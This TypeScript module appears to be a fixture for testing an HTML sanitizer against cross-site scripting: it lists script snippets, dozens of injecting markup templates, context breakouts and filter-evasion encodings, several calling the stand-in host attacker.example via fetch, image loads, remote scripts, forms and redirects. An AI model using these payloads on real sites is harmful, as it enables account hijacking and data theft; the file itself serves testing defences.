/** Nobody's host: a request to it is seen, and leads nowhere. */
export const attacker = 'attacker.example';

/** What runs if a page is deceived. `ran` is the sentinel that a test puts into the page. */
export const scripts = [
  'ran(1)',
  'alert(1)',
  `location='https://${attacker}/'`,
  `fetch('//${attacker}/')`,
  `new Image().src='//${attacker}/'`,
  "top['ran'](1)",
  "setTimeout('ran(1)')",
] as const;

/** Markup that runs a script, or asks a host. */
export const markup: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  () => `<script src=//${attacker}/x.js></script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<img src=x onerror=${script.replaceAll(' ', '/**/')} //`,
  () => `<img src="https://${attacker}/p.gif">`,
  (script) => `<svg onload="${script}">`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<svg><a href="javascript:${script}"><text y=9>x</text></a></svg>`,
  (script) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${script}'/>#x"/></svg>`,
  (script) => `<math><a xlink:href="javascript:${script}">x</a></math>`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<a href="data:text/html,<script>${script}</script>">x</a>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:parent.${script}"></iframe>`,
  () => `<iframe src=//${attacker}/></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  () => `<embed src="//${attacker}/x.swf">`,
  () => `<base href="https://${attacker}/">`,
  () => `<meta http-equiv=refresh content="0;url=https://${attacker}/">`,
  () => `<link rel=stylesheet href=//${attacker}/x.css>`,
  () => `<style>@import '//${attacker}/x.css';</style>`,
  () => `<form action=//${attacker}/><button>x</button></form>`,
  (script) => `<input autofocus onfocus="${script}">`,
  (script) => `<details open ontoggle="${script}">x</details>`,
  (script) => `<video><source onerror="${script}"></video>`,
  (script) => `<body onload="${script}">`,
  (script) => `<div style="animation-name:x" onanimationstart="${script}">x</div>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<custom-element onclick="${script}" tabindex=1>x</custom-element>`,
];

/** What ends the place that the text stands in, so that markup begins. */
export const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</noscript>',
  '</code></pre>',
  '</svg>',
  '\\"',
  '");',
  "');",
  '\n\n',
] as const;

const entities = (text: string): string =>
  Array.from(text, (character) => `&#x${character.codePointAt(0)?.toString(16)};`).join('');

/** Ways to write the same so that a filter does not see it. */
export const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  entities,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '\\x3c'),
  (text) => text.replaceAll('<', '%u003c'),
  (text) => text.replaceAll('<', '+ADw-'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '<\0'),
  (text) => text.replaceAll('script', 'scr\0ipt'),
  (text) => text.replaceAll('script', 'ScRiPt'),
  (text) => text.replaceAll('javascript:', 'java\tscr\nipt:'),
  (text) => text.replaceAll('javascript:', '\u0001 javascript\t:'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\u000c'),
  (text) => text.replaceAll('=', ' =\n'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('script', 'scr\u200bipt'),
  (text) => text.replaceAll('s', '\u017f'),
  (text) => `\ufeff${text}\u2028`,
  (text) => `\ud800${text}\udfff`,
];
